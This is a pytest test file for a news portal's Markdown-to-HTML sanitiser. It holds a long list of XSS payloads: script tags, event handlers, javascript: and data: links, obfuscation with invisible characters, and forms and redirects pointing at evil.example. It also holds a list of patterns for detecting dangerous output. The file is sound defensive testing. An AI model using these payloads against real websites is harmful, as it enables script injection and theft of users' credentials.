"""An article body is Markdown rendered to HTML with nothing executable left in it."""

import html
import unicodedata
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from portal.news.models import Article
from portal.news.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, markdown_to_html
from tests.news.factories import ArticleFactory

# Known ways in, as an editor might paste them: raw HTML, Markdown, and encodings of both.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<a href="javascript:alert(1)">klikk</a>',
    '<a href="JaVaScRiPt:alert(1)">klikk</a>',
    '<a href=" javascript:alert(1)">klikk</a>',
    '<a href="java\tscript:alert(1)">klikk</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">klikk</a>',
    '<a href="&#x6A;avascript:alert(1)">klikk</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klikk</a>',
    '<a href="vbscript:msgbox(1)">klikk</a>',
    '<a href="https://nav.no" onclick="alert(1)">klikk</a>',
    '<a href="https://nav.no" onmouseover="alert(1)">klikk</a>',
    "[klikk](javascript:alert(1))",
    "[klikk](JAVASCRIPT:alert(1))",
    "[klikk](data:text/html,<script>alert(1)</script>)",
    "[klikk][ref]\n\n[ref]: javascript:alert(1)",
    "![bilde](javascript:alert(1))",
    '![bilde](x.png" onerror="alert(1))',
    "<javascript:alert(1)>",
    '<div onmouseover="alert(1)">hold over</div>',
    '<form action="https://evil.example"><input name="passord"><button>Send</button></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<details open ontoggle="alert(1)">',
    "<<script>script>alert(1)<</script>/script>",
    "<!--<script>alert(1)</script>-->",
    '<a href="https://nav.no" target="_blank">ut</a>',
    'Tekst {: onclick="alert(1)" }\n{: onclick="alert(1)" }',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<abbr title="x" onfocus="alert(1)" tabindex="0">NAV</abbr>',
    # Invisible characters that hide the scheme from a check, and that a reader or a browser
    # may drop afterwards.
    "[klikk](java\u200bscript:alert(1))",
    '<a href="java\u200bscript:alert(1)">klikk</a>',
    '<a href="java&#x200b;script:alert(1)">klikk</a>',
    '<a href="\u200bjavascript:alert(1)">klikk</a>',
    '<a href="\u200b javascript:alert(1)">klikk</a>',
    '<a href="\ufeffjava\u2060script:alert(1)">klikk</a>',
    '<a href="java\u200dscript:alert(1)">klikk</a>',
    '<a href="\x01javascript:alert(1)">klikk</a>',
    '<a href="&#x01;javascript:alert(1)">klikk</a>',
    '<a href="java\x00script:alert(1)">klikk</a>',
    "[klikk](\x01javascript:alert(1))",
]


def _visible(text):
    """Text as a lenient reader takes it: control and format characters dropped."""
    return "".join(c for c in text if unicodedata.category(c) not in {"Cc", "Cf"})


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def _assert_harmless(output):
    collector = _Collector()
    collector.feed(output)
    for tag, attrs in collector.tags:
        assert tag in ALLOWED_TAGS, (tag, output)
        for name, value in attrs.items():
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name, output)
            assert not name.startswith("on")
            if name == "href":
                scheme = urlsplit(_visible(html.unescape(value)).strip()).scheme.lower()
                assert scheme in {"", "http", "https", "mailto"}, (value, output)
    lowered = _visible(html.unescape(output)).lower()
    for needle in ("<script", "javascript:", "vbscript:", "data:text", "<iframe", "<style", "<svg"):
        assert needle not in lowered, (needle, output)


def test_there_are_at_least_twenty_payloads():
    assert len(XSS_PAYLOADS) >= 20


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_known_xss_payload_survives_rendering(payload):
    _assert_harmless(markdown_to_html(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_known_xss_payload_survives_inside_an_ordinary_paragraph(payload):
    _assert_harmless(markdown_to_html(f"Innledning.\n\n{payload}\n\nAvslutning med *kursiv*."))


def test_links_keep_safe_schemes_and_get_noopener():
    output = markdown_to_html(
        "[NAV](https://www.nav.no) og [e-post](mailto:post@nav.no) og [side](/news/)"
    )
    assert '<a href="https://www.nav.no" rel="noopener noreferrer">NAV</a>' in output
    assert 'href="mailto:post@nav.no"' in output
    assert 'href="/news/"' in output


def test_invisible_characters_are_dropped_from_a_link_that_is_kept():
    output = markdown_to_html("[NAV](https://www.na\u200bv.no/\u2060arbeidsgiver)")
    assert '<a href="https://www.nav.no/arbeidsgiver"' in output


def test_markdown_formatting_survives_and_headings_start_at_h2():
    output = markdown_to_html(
        "# Tittel\n\n## Mellomtittel\n\n**fet** og *kursiv*\n\n- ett\n- to\n\n"
        "> sitat\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert "<h1" not in output
    assert "<h2>Tittel</h2>" in output and "<h2>Mellomtittel</h2>" in output
    assert "<strong>fet</strong>" in output and "<em>kursiv</em>" in output
    assert "<li>ett</li>" in output and "<blockquote>" in output and "<td>1</td>" in output


@pytest.mark.django_db
def test_saving_an_article_stores_the_sanitised_body():
    article = ArticleFactory(body="Hei <script>alert(1)</script> [x](javascript:alert(1))")
    article.refresh_from_db()
    assert "<script" not in article.body_html
    assert "javascript:" not in article.body_html
    assert "<p>Hei" in article.body_html


@pytest.mark.django_db
def test_a_body_html_written_behind_saves_back_is_cleaned_when_shown():
    article = ArticleFactory()
    Article.objects.filter(pk=article.pk).update(body_html="<p>ok</p><script>alert(1)</script>")
    article.refresh_from_db()
    assert str(article.body_safe) == "<p>ok</p>"


@pytest.mark.django_db
def test_the_article_page_shows_no_script_from_the_body(client):
    body = '<img src=x onerror=alert(1)>\n\n<script>alert("x")</script>'
    ArticleFactory(slug="farlig", body=body)
    page = client.get("/news/farlig/").content.decode()
    assert "onerror" not in page
    assert 'alert("x")' not in page
